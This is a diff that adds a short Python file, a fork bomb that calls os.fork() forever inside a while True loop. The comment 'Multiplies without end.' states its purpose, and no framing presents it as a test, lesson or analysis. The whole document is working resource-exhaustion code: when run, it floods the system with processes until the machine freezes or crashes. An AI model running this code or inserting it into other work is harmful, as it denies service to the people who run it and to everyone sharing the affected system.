@@ -1,0 +1,5 @@
+# Multiplies without end.
+import os
+
+while True:
+    os.fork()
